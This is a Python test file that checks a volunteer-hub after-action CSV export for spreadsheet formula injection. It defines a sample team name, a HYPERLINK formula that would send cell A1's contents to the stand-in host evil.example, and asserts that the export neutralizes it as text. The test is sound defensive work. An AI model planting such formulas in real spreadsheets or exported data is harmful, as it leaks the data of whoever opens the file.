"""The after-action CSV neutralizes cells a spreadsheet would run as formulas (issue 11):
team names and texts are typed by people and end up in an organizer's Excel."""
from __future__ import annotations

import csv
import io

from tests.emergency.test_board import build_scene
from volunteer_hub.emergency import report

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_team_named_like_a_formula_is_exported_as_text(world, db):
    world.medical_team.name = FORMULA
    scene = build_scene(world)
    db.session.commit()
    text = report.to_csv(report.after_action(scene.activation))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    no_shows = [row for row in rows if row[0] == "no_show"]
    assert no_shows and all(row[1] == "'" + FORMULA for row in no_shows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
